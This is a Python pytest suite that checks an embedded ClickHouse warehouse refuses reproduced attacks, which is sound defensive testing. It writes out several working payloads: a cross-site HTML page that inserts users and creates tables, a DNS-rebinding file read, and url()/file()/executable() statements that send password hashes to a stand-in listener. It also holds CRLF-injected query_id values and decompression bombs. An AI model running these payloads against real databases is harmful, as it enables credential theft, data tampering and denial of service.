"""Issue 21 findings 1, 7, 8: the browser (and any local process without the secret) as an attacker of the
embedded warehouse. Each test replays the reproduced exploit against the live session warehouse and checks that
it no longer works — and, where the attack's effect is observable (a row, a table, a listener hit), that it did
not happen."""

from __future__ import annotations

import base64
import http.client
import os
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import quote, unquote, urlsplit

import clickhouse_connect
import pytest
from clickhouse_connect.driver.exceptions import DatabaseError

from tests.conftest import free_port, http_head, isolated_warehouse

CHROMIUM = "/usr/bin/chromium"
ATTACKER_LOGIN = "sec-browser-attacker"


def _auth(url: str) -> str:
    parts = urlsplit(url)
    return (
        "Basic "
        + base64.b64encode(
            f"{unquote(parts.username or '')}:{unquote(parts.password or '')}".encode()
        ).decode()
    )


def _request(
    url: str,
    method: str,
    path: str,
    body: bytes = b"",
    *,
    auth: bool = True,
    host: str | None = None,
    headers: dict[str, str] | None = None,
    timeout: float = 60,
) -> tuple[int, str]:
    """One request with full control of Host and credentials; returns (status, body text)."""
    parts = urlsplit(url)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=timeout)
    try:
        conn.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        conn.putheader("Host", host if host is not None else f"{parts.hostname}:{parts.port}")
        if auth:
            conn.putheader("Authorization", _auth(url))
        for k, v in (headers or {}).items():
            conn.putheader(k, v)
        conn.putheader("Content-Length", str(len(body)))
        conn.endheaders(body)
        resp = conn.getresponse()
        return resp.status, resp.read().decode(errors="replace")
    finally:
        conn.close()


def _attacker_rows(ch) -> int:
    return ch.query(
        "SELECT count() FROM app.users WHERE login = {l:String}", parameters={"l": ATTACKER_LOGIN}
    ).result_rows[0][0]


def _table_exists(ch, name: str) -> bool:
    return bool(
        ch.query(
            "SELECT count() FROM system.tables WHERE database = 'default' AND name = {n:String}",
            parameters={"n": name},
        ).result_rows[0][0]
    )


INSERT_USER = (
    f"INSERT INTO app.users (tenant_id, login, role, password_hash) "
    f"VALUES ('sec_t1', '{ATTACKER_LOGIN}', 'pm', 'x')"
)


# --- finding 1: no credential -------------------------------------------------------------------------------------
def test_the_secret_is_a_private_file_in_the_data_directory(warehouse_url, monkeypatch):
    from warehouse.access import SECRET_FILE

    data_dir = Path(os.environ["MRM_DATA_DIR"])
    path = data_dir / SECRET_FILE
    assert oct(path.stat().st_mode & 0o777) == "0o600"
    secret = path.read_text().strip()
    assert unquote(urlsplit(warehouse_url).password or "") == secret
    # Never echoed: not in the server's log, not in `mrm warehouse status` / `start`.
    from click.testing import CliRunner

    from warehouse.cli import warehouse as warehouse_cli

    result = CliRunner().invoke(warehouse_cli, ["status"])  # through CLICKHOUSE_URL, which carries the secret
    assert result.exit_code == 0 and secret not in result.output, result.output
    monkeypatch.delenv("CLICKHOUSE_URL")  # the embedded server of MRM_DATA_DIR, found through its state file
    for args in (["status"], ["start"]):
        result = CliRunner().invoke(warehouse_cli, args)
        assert result.exit_code == 0 and str(urlsplit(warehouse_url).port) in result.output, result.output
        assert secret not in result.output
    assert secret not in (data_dir / "logs" / "warehouse.log").read_text()


def test_request_without_the_secret_is_refused_with_a_clickhouse_error(ch, warehouse_url):
    for auth_kind in ("none", "wrong-basic", "wrong-key", "wrong-param"):
        headers, path = {}, "/"
        if auth_kind == "wrong-basic":
            headers["Authorization"] = "Basic " + base64.b64encode(b"default:guess").decode()
        elif auth_kind == "wrong-key":
            headers.update({"X-ClickHouse-User": "default", "X-ClickHouse-Key": "guess"})
        elif auth_kind == "wrong-param":
            path = "/?user=default&password=guess"
        status, text = _request(
            warehouse_url, "POST", path, INSERT_USER.encode(), auth=False, headers=headers
        )
        assert status == 401 and text.startswith("Code: 516.") and "AUTHENTICATION_FAILED" in text, (
            auth_kind,
            text,
        )
        assert unquote(urlsplit(warehouse_url).password or "") not in text
    assert _attacker_rows(ch) == 0
    # Stock clickhouse-connect without the password fails loudly; with it (the X-ClickHouse-Key way too) it works.
    parts = urlsplit(warehouse_url)
    with pytest.raises(DatabaseError, match="516|Authentication"):
        clickhouse_connect.get_client(host=parts.hostname, port=parts.port, username="default", password="")
    status, text = _request(
        warehouse_url,
        "POST",
        "/",
        b"SELECT 40 + 2",
        auth=False,
        headers={"X-ClickHouse-User": "default", "X-ClickHouse-Key": unquote(parts.password or "")},
    )
    assert (status, text) == (200, "42\n")


def test_ping_needs_no_secret_and_reveals_nothing(warehouse_url):
    assert _request(warehouse_url, "GET", "/ping", auth=False) == (200, "Ok.\n")


# --- finding 1: the browser ---------------------------------------------------------------------------------------
@pytest.fixture()
def attacker_site() -> Iterator[tuple[str, dict[str, bytes]]]:
    """A web page on another loopback port: what any site the victim visits could serve."""
    pages: dict[str, bytes] = {}

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - stdlib name
            page = pages.get(self.path.split("?")[0], b"")
            self.send_response(200 if page else 404)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(page)))
            self.end_headers()
            self.wfile.write(page)

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Site)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://localhost:{server.server_address[1]}", pages
    finally:
        server.shutdown()
        server.server_close()


def test_a_web_page_cannot_insert_a_user_nor_create_a_table_through_chromium(
    ch, warehouse_url, attacker_site
):
    """The reproduced attack: a page auto-submits a form POST (query=INSERT INTO app.users ...) and loads an image
    whose URL is `GET /?query=CREATE TABLE ...`. Both requests reach the warehouse and are refused."""
    from playwright.sync_api import sync_playwright

    site, pages = attacker_site
    port = urlsplit(warehouse_url).port
    table = f"sec_browser_{uuid.uuid4().hex[:8]}"
    create = quote(f"CREATE TABLE default.{table} (a Int8) ENGINE = Memory")
    pages["/evil.html"] = f"""<!doctype html><html><body>
<img id="i" src="http://127.0.0.1:{port}/?query={create}">
<form id="f" method="POST" action="http://127.0.0.1:{port}/" enctype="application/x-www-form-urlencoded">
<input type="hidden" name="query" value="{INSERT_USER}"></form>
<script>document.getElementById('i').onerror = document.getElementById('i').onload =
  () => document.getElementById('f').submit();</script></body></html>""".encode()
    statuses: dict[str, int] = {}
    with sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            page.set_default_timeout(90_000)
            page.on(
                "response",
                lambda r: statuses.__setitem__(r.request.method, r.status) if f":{port}/" in r.url else None,
            )
            with page.expect_response(lambda r: r.request.method == "POST" and f":{port}/" in r.url):
                page.goto(f"{site}/evil.html")
        finally:
            browser.close()
    assert statuses.get("GET") in (401, 403) and statuses.get("POST") in (401, 403), statuses
    assert _attacker_rows(ch) == 0
    assert not _table_exists(ch, table)


def test_cross_site_origin_is_refused_even_with_the_secret(ch, warehouse_url):
    for headers in (
        {"Origin": "http://evil.example"},
        {"Origin": "null"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "http://127.0.0.1:1"},
    ):
        status, text = _request(warehouse_url, "POST", "/", INSERT_USER.encode(), headers=headers)
        assert status == 403 and "ACCESS_DENIED" in text, (headers, text)
    assert _attacker_rows(ch) == 0
    port = urlsplit(warehouse_url).port
    assert _request(
        warehouse_url, "POST", "/", b"SELECT 1", headers={"Origin": f"http://localhost:{port}"}
    ) == (200, "1\n")


def test_a_rebinding_host_cannot_read_a_local_file(warehouse_url):
    """DNS rebinding: the page's own name now points at 127.0.0.1, so the browser sends `Host: evil.example:port`
    with a text/plain POST. Refused by Host before anything else (with or without the secret)."""
    port = urlsplit(warehouse_url).port
    body = b"SELECT * FROM file('/etc/hostname', 'LineAsString')"
    for host in (f"evil.example:{port}", "127.0.0.1", f"127.0.0.1:{port + 1}", f"localhost.:{port}", ""):
        for auth in (False, True):
            status, text = _request(
                warehouse_url, "POST", "/", body, auth=auth, host=host, headers={"Content-Type": "text/plain"}
            )
            assert status == 403 and "ACCESS_DENIED" in text, (host, auth, text)
    assert _request(warehouse_url, "POST", "/", b"SELECT 1", host=f"localhost:{port}") == (200, "1\n")


def test_get_is_read_only(ch, warehouse_url):
    table = f"sec_get_{uuid.uuid4().hex[:8]}"
    for sql in (f"CREATE TABLE default.{table} (a Int8) ENGINE = Memory", INSERT_USER):
        for extra in ("", "&readonly=0"):
            status, text = _request(warehouse_url, "GET", "/?query=" + quote(sql) + extra)
            assert status >= 400 and "READONLY" in text, (sql, extra, text)
    assert not _table_exists(ch, table) and _attacker_rows(ch) == 0
    assert _request(warehouse_url, "GET", "/?query=" + quote("SELECT 40 + 2") + "&max_threads=1") == (
        200,
        "42\n",
    )
    status, text = _request(warehouse_url, "GET", "/?session_id=s1&query=" + quote("SELECT 1"))
    assert status >= 400 and "POST" in text


# --- finding 1: outside-world functions ------------------------------------------------------------------------------
@pytest.fixture()
def listener() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP listener standing in for the attacker's server: records every request it gets."""
    seen: list[str] = []

    class Sink(BaseHTTPRequestHandler):
        def _record(self) -> None:
            if "chunked" in self.headers.get("Transfer-Encoding", ""):  # url() streams its insert in chunks
                body = b""
                while size := int(self.rfile.readline().split(b";")[0].strip() or b"0", 16):
                    body += self.rfile.read(size)
                    self.rfile.readline()
                self.rfile.readline()
            else:
                body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            seen.append(f"{self.command} {self.path} {body!r}")
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"1\n")

        do_GET = do_POST = do_PUT = _record  # noqa: N815 - stdlib names

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", free_port()), Sink)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


def _exfiltration_statements(sink: str) -> list[str]:
    return [
        f"INSERT INTO FUNCTION url('{sink}/h', 'TSV', 'login String, h String') SELECT login, password_hash "
        "FROM app.users",
        f"SELECT * FROM url('{sink}/r', 'TSV', 'a String')",
        f"SELECT * FROM URL /* nested /* comment */ */ ('{sink}/c', 'TSV', 'a String')",
        f"SELECT * FROM `\\x75rl`('{sink}/e', 'TSV', 'a String')",
        f"SELECT * FROM \"url\"('{sink}/q', 'TSV', 'a String')",
        f"SELECT $$'$$ AS x FROM url('{sink}/d', 'TSV', 'a String') -- '",
        f"SELECT 1; SELECT * FROM urlCluster('default', '{sink}/m', 'TSV', 'a String')",
        f"CREATE TABLE default.sec_url_engine (a String) ENGINE = URL('{sink}/t', 'TSV')",
        f"SELECT * FROM remote('127.0.0.1:{urlsplit(sink).port}', system.one)",
        f"SELECT * FROM s3('{sink}/b/k.tsv', 'TSV', 'a String')",
        "SELECT * FROM file('/etc/hostname', 'LineAsString')",
        "SELECT 1 INTO OUTFILE '/tmp/sec-outfile.tsv'",
        "INSERT INTO default.x FROM INFILE '/etc/hostname' FORMAT LineAsString",
        "SELECT * FROM mysql('127.0.0.1:3306', 'db', 't', 'u', 'p')",
        "SELECT * FROM executable('ls', 'TSV', 'a String')",
    ]


def test_url_exfiltration_and_file_read_are_refused(ch, warehouse_url, listener):
    sink, seen = listener
    for sql in _exfiltration_statements(sink):
        status, text = _request(warehouse_url, "POST", "/", sql.encode())
        assert status == 403 and "FUNCTION_NOT_ALLOWED" in text, (sql, text)
    # The same through the form body clickhouse-connect uses, and through stock clickhouse-connect itself.
    status, text = _request(
        warehouse_url,
        "POST",
        "/",
        ("query=" + quote(_exfiltration_statements(sink)[0])).encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert status == 403, text
    with pytest.raises(DatabaseError, match="FUNCTION_NOT_ALLOWED"):
        ch.command(_exfiltration_statements(sink)[0])
    assert seen == []
    assert not Path("/tmp/sec-outfile.tsv").exists() and not _table_exists(ch, "sec_url_engine")
    # Words that only look like the functions stay usable: a column named url, a string mentioning file(.
    assert ch.query("SELECT url, 'file(x)' FROM (SELECT 'a' AS url)").result_rows == [("a", "file(x)")]


def test_an_operator_can_enable_url_and_then_the_listener_sees_it(tmp_path, listener, monkeypatch):
    """The control above is the server's, not the engine's: with url() allowed on a private server, the same
    statement reaches the listener (so the refusal test cannot pass for a wrong reason)."""
    sink, seen = listener
    monkeypatch.setenv("MRM_WAREHOUSE_ALLOW_FUNCTIONS", "url")
    with isolated_warehouse(tmp_path / "allow-url") as client:
        client.command(f"INSERT INTO FUNCTION url('{sink}/allowed', 'TSV', 'a String') SELECT 'hello'")
        with pytest.raises(DatabaseError, match="FUNCTION_NOT_ALLOWED"):
            client.query("SELECT * FROM file('/etc/hostname', 'LineAsString')")
    assert any("/allowed" in s and "hello" in s for s in seen), seen


# --- finding 7: query_id -----------------------------------------------------------------------------------------------
LONG_QUERY = "SELECT sum(cityHash64(number)) AS {alias} FROM numbers(100000000000) SETTINGS max_threads=1"


def _start_long_query(url: str, alias: str, query_id: str) -> socket.socket:
    parts = urlsplit(url)
    sock = socket.create_connection((parts.hostname, parts.port))
    body = LONG_QUERY.format(alias=alias).encode()
    sock.sendall(
        f"POST /?query_id={quote(query_id, safe='')} HTTP/1.1\r\n".encode()
        + http_head(url)
        + f"Content-Length: {len(body)}\r\n\r\n".encode()
        + body
    )
    return sock


def _running(ch, alias: str) -> int:
    return ch.query(
        "SELECT count() FROM system.processes WHERE query LIKE {p:String} AND query_id != queryID()",
        parameters={"p": f"%{alias}%FROM numbers%"},
    ).result_rows[0][0]


def _wait(cond, what: str, limit: float = 60) -> None:
    deadline = time.monotonic() + limit
    while not cond():
        assert time.monotonic() < deadline, what
        time.sleep(0.1)


def test_query_id_cannot_cancel_another_clients_query(ch, warehouse_url):
    for bad in ("%", "a%", "*/ SELECT 1 /*", "x'y", "a\r\nX-Injected: 1", "a" * 129):
        status, text = _request(warehouse_url, "POST", "/?query_id=" + quote(bad, safe=""), b"SELECT 1")
        assert status == 400 and "query_id" in text, (bad, text)
    victim_alias, attacker_alias = f"v{uuid.uuid4().hex}", f"a{uuid.uuid4().hex}"
    victim = _start_long_query(warehouse_url, victim_alias, "victim-query-1")
    try:
        _wait(lambda: _running(ch, victim_alias) == 1, "victim query never started")
        # The attacker reuses the victim's query_id, then disconnects: only the attacker's query is cancelled.
        attacker = _start_long_query(warehouse_url, attacker_alias, "victim-query-1")
        _wait(lambda: _running(ch, attacker_alias) == 1, "attacker query never started")
        attacker.close()
        _wait(lambda: _running(ch, attacker_alias) == 0, "attacker query not cancelled")
        assert _running(ch, victim_alias) == 1
    finally:
        victim.close()
    _wait(lambda: _running(ch, victim_alias) == 0, "victim query not cancelled after its own disconnect")


# --- finding 8: body and decompression limits -----------------------------------------------------------------------
def _zstd_bomb(decoded: int) -> bytes:
    import zstandard

    cobj = zstandard.ZstdCompressor(level=3).compressobj()
    zeros = bytes(1 << 20)
    return b"".join([cobj.compress(zeros) for _ in range(decoded >> 20)] + [cobj.flush()])


def _server_rss(warehouse_url: str) -> int:
    import psutil

    from warehouse import embedded

    info = embedded.status(Path(os.environ["MRM_DATA_DIR"]))
    assert info is not None and info.port == urlsplit(warehouse_url).port
    return int(psutil.Process(info.pid).memory_info().rss)


def test_decompression_bombs_are_refused_without_memory_or_disk(ch, warehouse_url):
    import gzip

    ch.command("CREATE TABLE IF NOT EXISTS default.sec_bomb (s String) ENGINE = Memory")
    zbomb = _zstd_bomb(4 << 30)  # 4 GiB of zeros in ~130 KiB
    gbomb = gzip.compress(b"SELECT 1 -- " + bytes(200 << 20), compresslevel=1)
    tmp = Path(os.environ["MRM_DATA_DIR"]) / "tmp"
    before = _server_rss(warehouse_url)
    cases = [
        ("/?query=" + quote("INSERT INTO default.sec_bomb FORMAT RawBLOB"), zbomb, "zstd"),  # insert data
        ("/", _zstd_bomb(256 << 20), "zstd"),  # a query body
        ("/", gbomb, "gzip"),
    ]
    for path, payload, encoding in cases:
        t0 = time.monotonic()
        status, text = _request(warehouse_url, "POST", path, payload, headers={"Content-Encoding": encoding})
        assert status == 413 and "TOO_MANY_BYTES" in text, (path, encoding, text)
        assert time.monotonic() - t0 < 30
    grown = _server_rss(warehouse_url) - before
    assert grown < 100 << 20, f"server grew by {grown >> 20} MiB"
    assert list(tmp.glob("*")) == []
    assert ch.query("SELECT count() FROM default.sec_bomb").result_rows == [(0,)]


def test_oversized_body_is_refused_before_it_is_read(warehouse_url):
    parts = urlsplit(warehouse_url)
    with socket.create_connection((parts.hostname, parts.port), timeout=60) as s:
        s.sendall(
            b"POST / HTTP/1.1\r\n"
            + http_head(warehouse_url)
            + b"Content-Length: 999999999999\r\n\r\nSELECT 1"
        )
        # headers and body may arrive in separate segments: read until the answer is whole (or closed)
        reply = b""
        while b"TOO_MANY_BYTES" not in reply:
            piece = s.recv(65536)
            if not piece:
                break
            reply += piece
    assert reply.startswith(b"HTTP/1.1 413") and b"TOO_MANY_BYTES" in reply, reply[:300]
